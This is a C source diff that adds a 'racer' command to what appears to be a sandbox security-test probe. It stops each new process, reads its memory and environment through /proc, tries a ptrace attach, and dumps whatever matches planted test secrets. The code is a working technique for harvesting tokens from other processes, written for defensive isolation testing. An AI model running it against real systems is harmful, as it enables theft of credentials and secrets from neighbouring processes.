@@ -857,6 +857,227 @@ static int cmd_setcap(const char* file, long rootid) {
   return 0;
 }
 
+// The attacker of `docker exec` through sbx serve: stops every new process of
+// this sandbox the moment its pid appears and, before it has exec'd its
+// program, tries to read it: /proc/PID/mem (each writable mapping: heap,
+// stack, data, where a server keeps its tokens), /proc/PID/environ, and a
+// ptrace attach. A process counts as "before its exec" when the program
+// /proc/PID/exe names is not that file in this sandbox (a fork of sbx, a
+// helper of sbx's own); reading a process after its exec is allowed (the
+// workload's own). Everything read is searched for the lines of the file
+// NEEDLES (the test's planted secrets; never in this sandbox otherwise) and
+// dumped to DUMPDIR/PID.mem and PID.environ (bounded; where DUMPDIR is
+// writable) for the host to search as well. Runs until STOPFILE exists. New
+// pids come from /proc/sys/kernel/ns_last_pid (this pid namespace's last
+// pid), else from probing the next pids with kill(0).
+static long racer_dumped = 0;
+static const long kRacerDumpMax = 512L << 20, kRacerPerProcess = 64L << 20;
+static char racer_needles[8][256];
+static int racer_nneedles = 0;
+static int racer_secret_hits = 0;
+
+// Searches `buf` (of `n` bytes, following the `carry` bytes kept before it
+// in `win`) for the needles; keeps the last 255 bytes as the next carry.
+// Returns how many needles were found.
+static int racer_search(char* win, size_t* carry, const char* buf, size_t n) {
+  memcpy(win + *carry, buf, n);
+  size_t len = *carry + n;
+  int found = 0;
+  for (int i = 0; i < racer_nneedles; i++)
+    if (memmem(win, len, racer_needles[i], strlen(racer_needles[i]))) found++;
+  size_t keep = len < 255 ? len : 255;
+  memmove(win, win + len - keep, keep);
+  *carry = keep;
+  return found;
+}
+
+static long racer_dump_mem(pid_t p, int memfd, const char* dir) {
+  char path[256];
+  snprintf(path, sizeof path, "/proc/%d/maps", p);
+  FILE* maps = fopen(path, "r");
+  if (!maps) return -1;
+  snprintf(path, sizeof path, "%s/%d.mem", dir, p);
+  int out = racer_dumped < kRacerDumpMax ? open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600) : -1;
+  char line[512];
+  long total = 0;
+  static char buf[1 << 16], win[(1 << 16) + 256];
+  size_t carry = 0;
+  while (fgets(line, sizeof line, maps) && total < kRacerPerProcess) {
+    unsigned long lo, hi;
+    char perms[8];
+    if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w') continue;
+    for (unsigned long a = lo; a < hi && total < kRacerPerProcess;) {
+      size_t n = hi - a < sizeof buf ? hi - a : sizeof buf;
+      ssize_t r = pread(memfd, buf, n, (off_t)a);
+      if (r <= 0) break;
+      racer_secret_hits += racer_search(win, &carry, buf, (size_t)r);
+      if (out >= 0 && racer_dumped < kRacerDumpMax) {
+        if (write(out, buf, (size_t)r) == r) racer_dumped += r;
+      }
+      total += r;
+      a += (unsigned long)r;
+    }
+  }
+  fclose(maps);
+  if (out >= 0) close(out);
+  return total;
+}
+
+// 1: /proc/PID/exe is not that file in this sandbox (sbx's own image);
+// 0: it is (the process has exec'd its program); -1: unreadable.
+static int racer_before_exec(pid_t p, char* prog, size_t len) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/exe", p);
+  ssize_t n = readlink(path, prog, len - 1);
+  if (n < 0) return -1;
+  prog[n] = 0;
+  struct stat a, b;
+  if (stat(path, &a) < 0) return -1;
+  if (stat(prog, &b) < 0) return 1;
+  return a.st_dev != b.st_dev || a.st_ino != b.st_ino;
+}
+
+static int racer_reported = 0;
+static void racer_escape(const char* what, pid_t p, const char* prog, long bytes) {
+  char d[512];
+  snprintf(d, sizeof d, "pid %d before its exec (program %s): %ld bytes", p, prog, bytes);
+  if (racer_reported++ < 5) escape(what, d);
+  else escapes++;
+}
+
+static int cmd_racer(const char* dir, const char* stopfile, const char* needles) {
+  const pid_t self = getpid();
+  FILE* nf = fopen(needles, "r");
+  if (!nf) {
+    info("racer", "no needles file: nothing to search for");
+  } else {
+    while (racer_nneedles < 8 && fgets(racer_needles[racer_nneedles], sizeof racer_needles[0], nf)) {
+      racer_needles[racer_nneedles][strcspn(racer_needles[racer_nneedles], "\n")] = 0;
+      if (strlen(racer_needles[racer_nneedles]) >= 8) racer_nneedles++;
+    }
+    fclose(nf);
+  }
+  int lastfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
+  long last = self, seen = 0, stopped = 0, before_read = 0, after_read = 0, denied = 0, attached = 0, bytes = 0;
+  char num[32];
+  if (lastfd >= 0) {
+    ssize_t n = pread(lastfd, num, sizeof num - 1, 0);
+    if (n > 0) {
+      num[n] = 0;
+      last = atol(num);
+    } else {
+      close(lastfd);
+      lastfd = -1;
+    }
+  }
+  info("racer", lastfd >= 0 ? "new pids from /proc/sys/kernel/ns_last_pid" : "new pids by probing kill(pid, 0)");
+  unsigned long spins = 0;
+  for (;;) {
+    if ((++spins & 0xfff) == 0 && access(stopfile, F_OK) == 0) break;
+    long now = last;
+    if (lastfd >= 0) {
+      ssize_t n = pread(lastfd, num, sizeof num - 1, 0);
+      if (n <= 0) continue;
+      num[n] = 0;
+      now = atol(num);
+    } else {
+      for (long q = last + 1; q <= last + 16; q++)
+        if (kill((pid_t)q, 0) == 0) now = q;
+    }
+    for (long q = last + 1; q <= now; q++) {
+      pid_t p = (pid_t)q;
+      if (p == self) continue;
+      seen++;
+      if (kill(p, SIGSTOP) < 0) continue;  // gone already
+      stopped++;
+      // Wait (briefly) until it is stopped: it stops on its way back to user mode.
+      char path[64], st[512];
+      snprintf(path, sizeof path, "/proc/%d/stat", p);
+      for (int i = 0; i < 2000; i++) {
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        if (fd < 0) break;
+        ssize_t n = read(fd, st, sizeof st - 1);
+        close(fd);
+        if (n <= 0) break;
+        st[n] = 0;
+        char* rp = strrchr(st, ')');
+        if (rp && rp[1] == ' ' && (rp[2] == 'T' || rp[2] == 't')) break;
+        usleep(50);
+      }
+      char prog[4096] = "?";
+      long got = -1;
+      int access_ok = 0;
+      snprintf(path, sizeof path, "/proc/%d/mem", p);
+      int memfd = open(path, O_RDONLY | O_CLOEXEC);
+      if (memfd >= 0) {
+        access_ok = 1;
+        got = racer_dump_mem(p, memfd, dir);
+        close(memfd);
+      }
+      snprintf(path, sizeof path, "/proc/%d/environ", p);
+      int envfd = open(path, O_RDONLY | O_CLOEXEC);
+      if (envfd >= 0) {
+        static char env[1 << 16];
+        ssize_t n = read(envfd, env, sizeof env);
+        close(envfd);
+        if (n >= 0) {
+          access_ok = 1;
+          static char ewin[(1 << 16) + 256];
+          size_t ecarry = 0;
+          racer_secret_hits += racer_search(ewin, &ecarry, env, (size_t)n);
+          char out[256];
+          snprintf(out, sizeof out, "%s/%d.environ", dir, p);
+          int o = open(out, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
+          if (o >= 0) {
+            if (write(o, env, (size_t)n) < 0) {
+            }
+            close(o);
+          }
+        }
+      }
+      int traced = 0;
+      if (ptrace(PTRACE_SEIZE, p, 0, 0) == 0) {
+        traced = 1;
+        access_ok = 1;
+        ptrace(PTRACE_INTERRUPT, p, 0, 0);
+        int ws;
+        waitpid(p, &ws, __WALL);
+        ptrace(PTRACE_DETACH, p, 0, 0);
+      }
+      if (racer_secret_hits > 0) {
+        char d[256];
+        snprintf(d, sizeof d, "pid %d: a planted secret of the server's, %d times in what was read", p, racer_secret_hits);
+        if (racer_reported++ < 5) escape("racer-secret", d);
+        else escapes++;
+        racer_secret_hits = 0;
+      }
+      if (access_ok) {
+        int before = racer_before_exec(p, prog, sizeof prog);
+        if (before == 1) {
+          before_read++;
+          if (traced) attached++;
+          racer_escape(traced ? "racer-read-and-ptrace" : "racer-read", p, prog, got);
+        } else {
+          after_read++;
+        }
+        if (got > 0) bytes += got;
+      } else {
+        denied++;
+      }
+      kill(p, SIGCONT);
+    }
+    if (now > last) last = now;
+  }
+  if (lastfd >= 0) close(lastfd);
+  char d[512];
+  snprintf(d, sizeof d,
+           "%ld new pids, %ld stopped; read before their exec: %ld (%ld ptrace-attached); read after: %ld; "
+           "denied: %ld; %ld bytes of memory read, %ld dumped; searched for %d secrets",
+           seen, stopped, before_read, attached, after_read, denied, bytes, racer_dumped, racer_nneedles);
+  info("racer", d);
+  return 0;
+}
+
 int main(int argc, char** argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   if (argc < 2) {
@@ -886,6 +1107,7 @@ int main(int argc, char** argv) {
   else if (!strcmp(c, "udplisten") && argc == 4) rc = cmd_udplisten(atoi(argv[2]), atoi(argv[3]));
   else if (!strcmp(c, "udpsend") && argc == 5) rc = cmd_udpsend(argv[2], atoi(argv[3]), argv[4]);
   else if (!strcmp(c, "spoof") && argc == 8) rc = cmd_spoof(argv + 2);
+  else if (!strcmp(c, "racer") && argc == 5) rc = cmd_racer(argv[2], argv[3], argv[4]);
   else if (!strcmp(c, "setcap") && (argc == 3 || argc == 4)) rc = cmd_setcap(argv[2], argc == 4 ? atol(argv[3]) : -1);
   if (rc == 2) {
     fprintf(stderr, "probe: bad usage: %s\n", c);
